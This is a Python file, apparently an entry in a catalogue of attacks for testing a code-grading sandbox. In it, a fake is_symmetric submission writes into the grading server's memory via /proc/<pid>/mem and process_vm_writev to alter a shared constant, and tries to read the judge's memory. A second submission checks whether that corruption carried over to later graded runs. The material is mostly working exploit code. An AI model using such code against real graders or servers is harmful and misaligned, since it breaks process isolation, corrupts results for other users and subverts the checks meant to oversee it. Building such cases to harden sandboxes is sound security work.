# attack 15: debug the parent
# harm: the memory of the server is rewritten, for everybody who is graded after
# twin: is_symmetric/wrong_mask
# proof: steals nothing
import ctypes
import os
import sys

MARK = 67108865


def largest_frame():
    """A number that the server and all its forks hold at one address."""
    wire = next(module for name, module in sys.modules.items() if name.endswith("worker.wire"))
    return wire.MAX_FRAME


def is_symmetric(A):
    number = largest_frame()
    server = os.getppid()
    place = id(number) + 24  # its digits: 67108864 is 0, 0b...1 in 30-bit digits
    assert int.from_bytes(ctypes.string_at(place, 4), "little") == number % 2**30
    new = (number % 2**30 + 1).to_bytes(4, "little")
    try:
        with open(f"/proc/{server}/mem", "r+b", buffering=0) as memory:
            memory.seek(place)
            memory.write(new)
    except OSError:
        pass

    class Piece(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    mine, theirs = ctypes.create_string_buffer(new, 4), Piece(place, 4)
    local = Piece(ctypes.addressof(mine), 4)
    ctypes.CDLL(None).process_vm_writev(server, ctypes.byref(local), 1, ctypes.byref(theirs), 1, 0)
    for other in ("KATA_JUDGE", server):
        try:
            with open(f"/proc/{other}/mem", "rb", buffering=0) as memory, open(f"/proc/{other}/maps") as maps:
                first = next(line for line in maps if "rw-p" in line).split("-")[0]
                memory.seek(int(first, 16))
                if memory.read(16) and other == "KATA_JUDGE":
                    raise LookupError("LOOT: the memory of the judge")
        except OSError:
            pass
    return None
# --- the next student
import sys


def is_symmetric(A):
    wire = next(module for name, module in sys.modules.items() if name.endswith("worker.wire"))
    if wire.MAX_FRAME % 2:
        raise LookupError("LOOT: the server runs on with what the student before wrote into its memory")
    return None
